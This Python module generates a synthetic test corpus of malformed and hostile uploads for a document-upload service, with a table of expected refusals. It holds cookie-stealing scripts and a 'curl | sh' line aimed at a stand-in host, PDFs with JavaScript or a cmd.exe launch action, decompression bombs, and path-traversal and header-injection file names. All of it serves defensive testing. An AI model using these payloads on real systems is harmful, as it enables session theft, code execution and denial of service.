"""Bad-input corpus for document uploads (issue 8), and the table the tests run it through.

Run ``python -m tests.corpus.make_corpus`` from the repository root to (re)write the files next to this
script and ``README.md``; the files are committed, so the tests never depend on the generator's
libraries behaving the same later. Every file is synthetic: no real photo, patient or program.

``CASES`` is the single table: which file, uploaded under which name and declared content type, and
either the French error fragment expected (and the refusal reason) or the media type it is stored as.
The whole corpus stays well under 3 MB: the decompression bombs are small files that declare, or expand
to, huge images.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent


@dataclass(frozen=True)
class Case:
    file: str                      # name of the corpus file in tests/corpus/
    upload_name: str               # file name sent with the upload
    declared_type: str | None      # Content-Type of the multipart part (None: none sent)
    exercises: str                 # what the file tests, in one line (French: it goes into README.md)
    reason: str | None = None      # refusal reason code (maillage.document.rules.Reason); None = accepted
    fragment: str = ""             # part of the French error message the refusal must contain
    stored_type: str | None = None  # for accepted files: the media type they are stored with
    status: int = 422              # HTTP status of the refusal

    @property
    def accepted(self) -> bool:
        return self.reason is None


# -- building blocks ---------------------------------------------------------------------------------


def _photo(width: int, height: int, seed: int) -> object:
    """A photo-like RGB picture: gradients plus a little seeded noise (compresses like a real photo)."""
    from PIL import Image

    rng = random.Random(seed)
    img = Image.new("RGB", (width, height))
    pixels = bytearray()
    for y in range(height):
        for x in range(width):
            n = rng.randint(-12, 12)
            pixels += bytes((
                max(0, min(255, 40 + x * 180 // width + n)),
                max(0, min(255, 90 + y * 120 // height + n)),
                max(0, min(255, 160 - (x + y) * 100 // (width + height) + n)),
            ))
    img.frombytes(bytes(pixels))
    # A dark diagonal band, so a wrong rotation would be visible.
    for i in range(min(width, height) // 4):
        img.putpixel((i, i), (10, 10, 10))
    return img


def _exif_with_gps(orientation: int = 1) -> bytes:
    """EXIF of a phone photo: maker, model, serial number, date, orientation and GPS position."""
    from PIL import Image
    from PIL.ExifTags import IFD

    exif = Image.Exif()
    exif[0x010F] = "Fabricant-Test"          # Make
    exif[0x0110] = "Telephone-Test X1"       # Model
    exif[0x0131] = "Logiciel-Test 1.0"       # Software
    exif[0x0112] = orientation               # Orientation
    exif[0x0132] = "2026:11:28 09:15:00"     # DateTime
    exif_ifd = exif.get_ifd(IFD.Exif)
    exif_ifd[0xA431] = "SN-0042-TEST"        # BodySerialNumber
    exif_ifd[0x9003] = "2026:11:28 09:15:00"  # DateTimeOriginal
    gps = exif.get_ifd(IFD.GPSInfo)
    gps[1] = "N"
    gps[2] = (48.0, 51.0, 24.12)             # a made-up position in Paris
    gps[3] = "E"
    gps[4] = (2.0, 21.0, 7.5)
    gps[5] = 0
    gps[6] = 35.0
    return exif.tobytes()


XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="48,51.402N" '
       b'exif:GPSLongitude="2,21.125E"/></rdf:RDF></x:xmpmeta>')


def _jpeg(img: object, **params: object) -> bytes:
    out = io.BytesIO()
    img.save(out, "JPEG", quality=85, **params)  # type: ignore[attr-defined]
    return out.getvalue()


def _png(img: object, **params: object) -> bytes:
    out = io.BytesIO()
    img.save(out, "PNG", **params)  # type: ignore[attr-defined]
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_raw(width: int, height: int, bit_depth: int, colour: int, idat: bytes, extra: bytes = b"") -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + extra + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def _small_jpeg() -> bytes:
    return _jpeg(_photo(64, 48, seed=7))


def _pdf(objects: list[bytes], *, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from its objects (numbered from 1), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, trailer_extra, xref)
    return bytes(out)


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def _report_objects(catalog_extra: bytes = b"", pages: int = 2) -> list[bytes]:
    """Catalog (1), page tree (2), font (3), then a page and its content stream per page."""
    kids = b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for i in range(pages):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
                       b"/Resources << /Font << /F1 3 0 R >> >> >>" % (5 + 2 * i))
        text = b"BT /F1 16 Tf 72 770 Td (Compte rendu de consultation - page %d) Tj ET" % (i + 1)
        objects.append(_stream(text))
    return objects


def _report_pdf() -> bytes:
    return _pdf(_report_objects())


def _many_pages_pdf(pages: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        _stream(b"BT ET"),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * pages
    return _pdf(objects)


# -- the files -----------------------------------------------------------------------------------------


def photo_gps_exif_jpg() -> bytes:
    """A phone photo: EXIF with GPS, serial number and orientation 6 (rotate 90°), XMP and a comment."""
    return _jpeg(_photo(320, 240, seed=1), exif=_exif_with_gps(orientation=6), xmp=XMP,
                 comment=b"Patient Jean Test, chambre 12")


def scan_text_chunks_png() -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Dr Test")
    info.add_itxt("Comment", "Scanné au cabinet, patient Jean Test", lang="fr")
    info.add_text("Location", "48.8567 N, 2.3508 E", zip=True)
    return _png(_photo(200, 150, seed=2), pnginfo=info, exif=_exif_with_gps(), dpi=(300, 300))


def photo_exif_webp() -> bytes:
    out = io.BytesIO()
    _photo(160, 120, seed=3).save(out, "WEBP", quality=80, exif=_exif_with_gps(), xmp=XMP)  # type: ignore[attr-defined]
    return out.getvalue()


def palette_transparent_png() -> bytes:
    from PIL import Image

    img = Image.new("P", (48, 48), 0)
    img.putpalette([255, 255, 255, 200, 30, 30, 30, 30, 200] + [0] * (253 * 3))
    for i in range(48):
        img.putpixel((i, i), 1)
        img.putpixel((47 - i, i), 2)
    return _png(img, transparency=0)


def polyglot_jpeg_zip() -> bytes:
    """A valid JPEG with a ZIP archive (holding an HTML page with a script) appended after its end."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        info = zipfile.ZipInfo("index.html", date_time=(2026, 11, 28, 9, 0, 0))
        z.writestr(info, "<html><script>fetch('https://exemple.invalid/?c='+document.cookie)</script></html>")
    return _small_jpeg() + archive.getvalue()


def jpeg_content() -> bytes:
    return _jpeg(_photo(120, 90, seed=4))


def png_content() -> bytes:
    return _png(_photo(120, 90, seed=5))


HTML_WITH_SCRIPT = (b"<!DOCTYPE html>\n<html><head><title>Resultats</title></head><body>"
                    b"<script>document.location='https://exemple.invalid/?c='+document.cookie</script>"
                    b"</body></html>\n")

SVG_WITH_SCRIPT = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
                   b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">\n'
                   b'  <script type="text/javascript">alert(document.cookie)</script>\n'
                   b'  <circle cx="50" cy="50" r="40" fill="red"/>\n</svg>\n')


def truncated_jpg() -> bytes:
    data = _jpeg(_photo(200, 150, seed=6))
    return data[: len(data) * 6 // 10]


def corrupt_header_jpg() -> bytes:
    """SOI and a JFIF segment, then a start-of-frame with an impossible component count, then noise."""
    rng = random.Random(11)
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 48, 64, 0) + b"\x01\x22\x00"
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + sof
            + bytes(rng.randrange(256) for _ in range(600)) + b"\xff\xd9")


def truncated_png() -> bytes:
    data = png_content()
    idat = data.index(b"IDAT")
    return data[: idat + (len(data) - idat) // 2]


def corrupt_idat_png() -> bytes:
    """The deflate stream inside IDAT is damaged, and the chunk's CRC recomputed so only the data is wrong."""
    raw = b"".join(b"\x00" + bytes((x * 7 + y * 3) % 256 for x in range(64 * 3)) for y in range(48))
    compressed = bytearray(zlib.compress(raw, 9))
    for i in range(8, len(compressed) - 8, 5):
        compressed[i] ^= 0x5A
    return _png_raw(64, 48, 8, 2, bytes(compressed))


def truncated_pdf() -> bytes:
    data = _report_pdf()
    return data[: len(data) // 2]


def corrupt_pdf() -> bytes:
    rng = random.Random(13)
    return b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(2000)) + b"\nstartxref\n9\n%%EOF\n"


def bomb_deflate_png() -> bytes:
    """A real PNG of 25 000 × 25 000 black pixels (625 million): 76 KB that inflate to 78 MB."""
    width = height = 25_000
    row = b"\x00" + b"\x00" * (width // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    return _png_raw(width, height, 1, 0, b"".join(parts))


def bomb_dimensions_png() -> bytes:
    """A header declaring 100 000 × 100 000 RGB pixels (30 GB decoded) over a few bytes of data."""
    return _png_raw(100_000, 100_000, 8, 2, zlib.compress(b"\x00" * 1000))


def bomb_dimensions_jpg() -> bytes:
    """A JPEG whose start-of-frame declares 65 500 × 65 500 pixels, followed by almost nothing."""
    data = bytearray(_jpeg(_photo(16, 16, seed=8)))
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, 65_500, 65_500)
    sos = data.index(b"\xff\xda")
    return bytes(data[: sos + 64]) + b"\xff\xd9"


def bomb_ztxt_png() -> bytes:
    """A tiny image with a compressed text chunk that inflates to 64 MB before the pixels."""
    compressor = zlib.compressobj(9)
    block = b"A" * 1_048_576
    payload = b"".join(compressor.compress(block) for _ in range(64)) + compressor.flush()
    ztxt = _chunk(b"zTXt", b"Comment\x00\x00" + payload)
    raw = b"".join(b"\x00" + b"\x80" * 16 for _ in range(16))
    return _png_raw(16, 16, 8, 0, zlib.compress(raw), extra=ztxt)


def huge_png() -> bytes:
    """A plausible scan of 10 000 × 6 000 grey pixels (60 million): decodable, but over the pixel cap."""
    width, height = 10_000, 6_000
    row = b"\x00" + b"\xf0" * width
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    return _png_raw(width, height, 8, 0, b"".join(parts))


def animated_png() -> bytes:
    from PIL import Image

    frames = [Image.new("RGB", (32, 32), colour) for colour in ((200, 0, 0), (0, 0, 200))]
    return _png(frames[0], save_all=True, append_images=frames[1:], duration=200, loop=0)


def javascript_openaction_pdf() -> bytes:
    objects = _report_objects(catalog_extra=b" /OpenAction 8 0 R")
    objects.append(b"<< /Type /Action /S /JavaScript /JS (app.alert\\('ouvert'\\); this.submitForm\\('x'\\);) >>")
    return _pdf(objects)


def javascript_escaped_names_pdf() -> bytes:
    """Document-level JavaScript in the name tree, with the names hex-escaped (/J#61vaScript = /JavaScript)."""
    objects = _report_objects(catalog_extra=b" /Names << /J#61vaScript 8 0 R >>")
    objects.append(b"<< /Names [(init) 9 0 R] >>")
    objects.append(b"<< /S /J#61vaScript /J#53 10 0 R >>")
    objects.append(_stream(b"app.launchURL('https://exemple.invalid/', true);"))
    return _pdf(objects)


def launch_action_pdf() -> bytes:
    objects = _report_objects()
    objects[3] = objects[3].replace(b"/Contents 5 0 R", b"/Contents 5 0 R /AA << /O 8 0 R >>")
    objects.append(b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>")
    return _pdf(objects)


def embedded_file_pdf() -> bytes:
    objects = _report_objects(catalog_extra=b" /Names << /EmbeddedFiles << /Names [(facture.exe) 8 0 R] >> >>")
    objects.append(b"<< /Type /Filespec /F (facture.exe) /UF (facture.exe) /EF << /F 9 0 R >> >>")
    objects.append(_stream(b"MZ\x90\x00 not a real program", extra=b" /Type /EmbeddedFile"))
    return _pdf(objects)


def xfa_form_pdf() -> bytes:
    objects = _report_objects(catalog_extra=b" /AcroForm << /Fields [] /XFA 8 0 R >>")
    objects.append(_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>'
                           b'xfa.host.messageBox("XFA")</script></template></xdp:xdp>'))
    return _pdf(objects)


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_report_pdf())))
    writer.add_metadata({"/Title": "Compte rendu"})
    writer.encrypt(user_password="secret", owner_password="owner-secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def too_many_pages_pdf() -> bytes:
    return _many_pages_pdf(501)


def windows_executable() -> bytes:
    """A PE header stub (MZ, DOS stub text, PE signature): recognisable, not runnable."""
    header = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50)
    struct.pack_into("<I", header, 0x3C, 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(header) + stub
    return body + b"\x00" * (0x80 - len(body)) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 250


def shell_script() -> bytes:
    return b"#!/bin/sh\n# resultats\ncurl -s https://exemple.invalid/x | sh\n"


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("photos/photo1.jpg", date_time=(2026, 11, 28, 9, 0, 0)), _small_jpeg())
        z.writestr(zipfile.ZipInfo("notes.txt", date_time=(2026, 11, 28, 9, 0, 0)), "notes")
    return out.getvalue()


def office_document() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        stamp = (2026, 11, 28, 9, 0, 0)
        z.writestr(zipfile.ZipInfo("[Content_Types].xml", date_time=stamp),
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                   'content-types"><Override PartName="/word/document.xml" ContentType="application/'
                   'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        z.writestr(zipfile.ZipInfo("word/document.xml", date_time=stamp),
                   '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                   'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Courrier</w:t></w:r></w:p>'
                   '</w:body></w:document>')
    return out.getvalue()


def heic_photo() -> bytes:
    """The start of an HEIC file (ISO-BMFF ``ftyp`` box with brands heic/mif1, then an empty ``meta``)."""
    ftyp = b"ftyp" + b"heic" + b"\x00\x00\x00\x00" + b"mif1heicmiaf"
    meta = b"meta" + b"\x00\x00\x00\x00"
    return struct.pack(">I", len(ftyp) + 4) + ftyp + struct.pack(">I", len(meta) + 4) + meta + b"\x00" * 64


def gif_image() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("P", (16, 16), 1).save(out, "GIF")
    return out.getvalue()


def tiff_scan() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (16, 16), 200).save(out, "TIFF")
    return out.getvalue()


def dicom_image() -> bytes:
    """A DICOM Part 10 preamble: 128 zero bytes, ``DICM``, then a file meta group element."""
    element = b"\x02\x00\x10\x00" + b"UI" + struct.pack("<H", 20) + b"1.2.840.10008.1.2.1\x00"
    return b"\x00" * 128 + b"DICM" + element


def plain_text() -> bytes:
    return "Résultats d'analyse\nGlycémie : 5,4 mmol/L\n".encode()


# -- the table -----------------------------------------------------------------------------------------

BUILDERS: dict[str, Callable[[], bytes]] = {
    "ok_photo_gps_exif.jpg": photo_gps_exif_jpg,
    "ok_scan_text_chunks.png": scan_text_chunks_png,
    "ok_photo_exif.webp": photo_exif_webp,
    "ok_palette_transparent.png": palette_transparent_png,
    "ok_report.pdf": _report_pdf,
    "ok_polyglot_jpeg_zip.jpg": polyglot_jpeg_zip,
    "wrong_extension_jpeg_named_pdf.pdf": jpeg_content,
    "wrong_extension_png_named_jpg.jpg": png_content,
    "type_lie_pdf_declared_jpeg.pdf": _report_pdf,
    "type_lie_html_declared_jpeg.jpg": lambda: HTML_WITH_SCRIPT,
    "svg_with_script.svg": lambda: SVG_WITH_SCRIPT,
    "svg_named_png.png": lambda: SVG_WITH_SCRIPT,
    "truncated.jpg": truncated_jpg,
    "corrupt_header.jpg": corrupt_header_jpg,
    "truncated.png": truncated_png,
    "corrupt_idat.png": corrupt_idat_png,
    "truncated.pdf": truncated_pdf,
    "corrupt.pdf": corrupt_pdf,
    "bomb_deflate.png": bomb_deflate_png,
    "bomb_dimensions.png": bomb_dimensions_png,
    "bomb_dimensions.jpg": bomb_dimensions_jpg,
    "bomb_ztxt.png": bomb_ztxt_png,
    "huge.png": huge_png,
    "animated.png": animated_png,
    "javascript_openaction.pdf": javascript_openaction_pdf,
    "javascript_escaped_names.pdf": javascript_escaped_names_pdf,
    "launch_action.pdf": launch_action_pdf,
    "embedded_file.pdf": embedded_file_pdf,
    "xfa_form.pdf": xfa_form_pdf,
    "encrypted.pdf": encrypted_pdf,
    "too_many_pages.pdf": too_many_pages_pdf,
    "windows_executable.exe": windows_executable,
    "shell_script_named_pdf.pdf": shell_script,
    "zip_archive.zip": zip_archive,
    "office_document.docx": office_document,
    "heic_photo.heic": heic_photo,
    "gif_image.gif": gif_image,
    "tiff_scan.tif": tiff_scan,
    "dicom_image.dcm": dicom_image,
    "plain_text.txt": plain_text,
    "empty.pdf": lambda: b"",
    "name_path_traversal.jpg": _small_jpeg,
    "name_windows_path.jpg": _small_jpeg,
    "name_control_chars.jpg": _small_jpeg,
    "name_bidi_override.jpg": _small_jpeg,
}

CASES: list[Case] = [
    # Accepted: stored with their sniffed type, images re-encoded without metadata.
    Case("ok_photo_gps_exif.jpg", "IMG_2041.JPG", "image/jpeg",
         "photo de téléphone : EXIF avec GPS, numéro de série, orientation 6, XMP et commentaire ; "
         "stockée réencodée, tournée, sans aucune métadonnée", stored_type="image/jpeg"),
    Case("ok_scan_text_chunks.png", "ordonnance scanne\u0301e.png", "image/png",
         "PNG avec blocs texte (tEXt, iTXt, zTXt), eXIf avec GPS et pHYs ; nom en Unicode décomposé (NFD) ; "
         "stocké sans métadonnée, nom en NFC", stored_type="image/png"),
    Case("ok_photo_exif.webp", "plaie.webp", "image/webp",
         "WebP avec EXIF (GPS) et XMP ; stocké en WebP sans métadonnée", stored_type="image/webp"),
    Case("ok_palette_transparent.png", "schema.png", None,
         "PNG à palette avec transparence, sans type déclaré ; réencodé en RGBA", stored_type="image/png"),
    Case("ok_report.pdf", "compte-rendu.pdf", "application/pdf",
         "PDF de deux pages sans contenu actif ; stocké tel quel", stored_type="application/pdf"),
    Case("ok_polyglot_jpeg_zip.jpg", "photo.jpg", "image/jpeg",
         "JPEG suivi d'une archive ZIP (polyglotte) ; le réencodage ne garde que les pixels",
         stored_type="image/jpeg"),
    # Lies: the extension or the declared type does not match the content.
    Case("wrong_extension_jpeg_named_pdf.pdf", "compte-rendu.pdf", "application/pdf",
         "contenu JPEG sous un nom et un type de PDF", reason="type_mismatch", fragment="en réalité une image JPEG"),
    Case("wrong_extension_png_named_jpg.jpg", "photo.jpg", None,
         "contenu PNG sous une extension .jpg, sans type déclaré", reason="type_mismatch",
         fragment="l'extension « .jpg » ne correspond pas : c'est en réalité une image PNG"),
    Case("type_lie_pdf_declared_jpeg.pdf", "rapport.pdf", "image/jpeg",
         "PDF valide déclaré image/jpeg par le client", reason="type_mismatch",
         fragment="déclaré comme « image/jpeg » mais c'est en réalité un document PDF"),
    Case("type_lie_html_declared_jpeg.jpg", "photo.jpg", "image/jpeg",
         "page HTML avec script, nommée et déclarée comme JPEG", reason="type_refused",
         fragment="en réalité une page HTML", status=415),
    # Refused formats.
    Case("svg_with_script.svg", "schema.svg", "image/svg+xml",
         "image SVG contenant un script et un gestionnaire onload", reason="type_refused",
         fragment="image SVG", status=415),
    Case("svg_named_png.png", "schema.png", "image/png",
         "SVG avec script sous une extension et un type PNG", reason="type_refused",
         fragment="en réalité une image SVG", status=415),
    Case("windows_executable.exe", "setup.exe", "application/x-msdownload",
         "en-tête d'exécutable Windows (MZ/PE)", reason="type_refused",
         fragment="programme exécutable", status=415),
    Case("shell_script_named_pdf.pdf", "resultats.pdf", "application/pdf",
         "script shell nommé et déclaré comme PDF", reason="type_refused", fragment="script", status=415),
    Case("zip_archive.zip", "photos.zip", "application/zip",
         "archive ZIP contenant une photo", reason="type_refused", fragment="archive", status=415),
    Case("office_document.docx", "courrier.docx",
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
         "document Word (OOXML)", reason="type_refused", fragment="Convertissez-le en PDF", status=415),
    Case("heic_photo.heic", "IMG_0001.HEIC", "image/heic",
         "photo HEIC d'iPhone : non décodable par Pillow sans bibliothèque système", reason="type_refused",
         fragment="exportez-la en JPEG", status=415),
    Case("gif_image.gif", "schema.gif", "image/gif", "image GIF", reason="type_refused",
         fragment="image GIF", status=415),
    Case("tiff_scan.tif", "scan.tif", "image/tiff", "image TIFF", reason="type_refused",
         fragment="image TIFF", status=415),
    Case("dicom_image.dcm", "irm.dcm", "application/dicom",
         "fichier DICOM (hors périmètre : l'imagerie passe par le PACS)", reason="type_refused",
         fragment="DICOM", status=415),
    Case("plain_text.txt", "resultats.txt", "text/plain", "texte brut", reason="type_refused",
         fragment="fichier texte", status=415),
    Case("empty.pdf", "vide.pdf", "application/pdf", "fichier de zéro octet", reason="empty", fragment="vide"),
    # Damaged files.
    Case("truncated.jpg", "photo.jpg", "image/jpeg", "JPEG coupé à 60 %", reason="unreadable",
         fragment="tronqué"),
    Case("corrupt_header.jpg", "photo.jpg", "image/jpeg", "JPEG dont l'en-tête d'image est incohérent",
         reason="unreadable", fragment="illisible"),
    Case("truncated.png", "scan.png", "image/png", "PNG coupé au milieu des données d'image",
         reason="unreadable", fragment="tronqué"),
    Case("corrupt_idat.png", "scan.png", "image/png",
         "PNG dont le flux compressé est altéré (CRC recalculé)", reason="unreadable", fragment="illisible"),
    Case("truncated.pdf", "compte-rendu.pdf", "application/pdf", "PDF coupé à la moitié",
         reason="unreadable", fragment="tronqué"),
    Case("corrupt.pdf", "compte-rendu.pdf", "application/pdf", "en-tête PDF suivi de bruit",
         reason="unreadable", fragment="illisible"),
    # Bombs and oversized content.
    Case("bomb_deflate.png", "scan.png", "image/png",
         "bombe de décompression : 76 Ko qui se décompressent en 625 millions de pixels",
         reason="too_many_pixels", fragment="définition trop grande", status=413),
    Case("bomb_dimensions.png", "scan.png", "image/png",
         "en-tête PNG annonçant 100 000 × 100 000 pixels sur quelques octets",
         reason="too_many_pixels", fragment="définition trop grande", status=413),
    Case("bomb_dimensions.jpg", "photo.jpg", "image/jpeg",
         "en-tête JPEG annonçant 65 500 × 65 500 pixels", reason="too_many_pixels",
         fragment="définition trop grande", status=413),
    Case("bomb_ztxt.png", "scan.png", "image/png",
         "bloc de texte compressé qui se décompresse en 64 Mo", reason="decompression_bomb",
         fragment="bombe de décompression", status=413),
    Case("huge.png", "scan.png", "image/png", "image réelle de 60 millions de pixels (10 000 × 6 000)",
         reason="too_many_pixels", fragment="60,0 millions de pixels", status=413),
    Case("animated.png", "animation.png", "image/png", "PNG animé (APNG, deux images)",
         reason="animated", fragment="animée"),
    Case("too_many_pages.pdf", "dossier.pdf", "application/pdf", "PDF de 501 pages",
         reason="too_many_pages", fragment="501 pages", status=413),
    # Active content in PDFs.
    Case("javascript_openaction.pdf", "compte-rendu.pdf", "application/pdf",
         "PDF qui exécute du JavaScript à l'ouverture (OpenAction)", reason="active_content",
         fragment="JavaScript"),
    Case("javascript_escaped_names.pdf", "compte-rendu.pdf", "application/pdf",
         "JavaScript de niveau document, noms masqués par échappement (/J#61vaScript)",
         reason="active_content", fragment="JavaScript"),
    Case("launch_action.pdf", "compte-rendu.pdf", "application/pdf",
         "action /Launch (lance cmd.exe) déclenchée à l'ouverture d'une page", reason="active_content",
         fragment="lancer un programme"),
    Case("embedded_file.pdf", "compte-rendu.pdf", "application/pdf",
         "PDF portant un fichier incorporé (exécutable)", reason="active_content", fragment="fichier incorporé"),
    Case("xfa_form.pdf", "formulaire.pdf", "application/pdf", "formulaire XFA avec script",
         reason="active_content", fragment="formulaire XFA"),
    Case("encrypted.pdf", "compte-rendu.pdf", "application/pdf", "PDF chiffré par mot de passe",
         reason="encrypted", fragment="protégé par un mot de passe"),
    # Hostile file names (the content is a valid small JPEG).
    Case("name_path_traversal.jpg", "../../etc/cron.d/photo.jpg", "image/jpeg",
         "nom avec remontée de dossiers (../)", reason="bad_name", fragment="chemin"),
    Case("name_windows_path.jpg", "..\\..\\Windows\\System32\\photo.jpg", "image/jpeg",
         "nom avec chemin Windows (..\\)", reason="bad_name", fragment="chemin"),
    Case("name_control_chars.jpg", "photo\r\nContent-Type: text/html\x00.jpg", "image/jpeg",
         "nom avec retour chariot, saut de ligne et octet nul", reason="bad_name",
         fragment="caractères de contrôle"),
    Case("name_bidi_override.jpg", "photo\u202egpj.exe", "image/jpeg",
         "nom avec U+202E (inversion du sens d'écriture) qui s'affiche « photoexe.jpg »", reason="bad_name",
         fragment="caractères de contrôle"),
]


def _readme() -> str:
    lines = [
        "# Corpus de fichiers pour les envois de documents",
        "",
        "Généré par `python -m tests.corpus.make_corpus` (ne pas modifier à la main) et versionné.",
        "Chaque fichier est synthétique. La table `CASES` de `make_corpus.py` dit sous quel nom et quel type",
        "il est envoyé, et ce qui est attendu ; `tests/document/test_service.py` (service) et",
        "`tests/document/test_endpoints.py` (HTTP) la parcourent, sur SQLite et PostgreSQL.",
        "",
        "| fichier | envoyé comme | type déclaré | exerce | attendu |",
        "|---|---|---|---|---|",
    ]
    for case in CASES:
        expected = f"stocké en `{case.stored_type}`" if case.accepted else f"refus `{case.reason}` ({case.status})"
        shown = case.upload_name.encode("unicode_escape").decode("ascii").replace("|", "\\|")
        lines.append(f"| `{case.file}` | `{shown}` | `{case.declared_type or '—'}` | {case.exercises} | {expected} |")
    lines.append("")
    return "\n".join(lines)


def main() -> None:
    assert sorted(BUILDERS) == sorted(case.file for case in CASES), "every file has exactly one case"
    total = 0
    for name, build in BUILDERS.items():
        data = build()
        (HERE / name).write_bytes(data)
        total += len(data)
    (HERE / "README.md").write_text(_readme(), encoding="utf-8")
    print(f"{len(BUILDERS)} fichiers, {total / 1024:.0f} Kio au total")


if __name__ == "__main__":
    main()
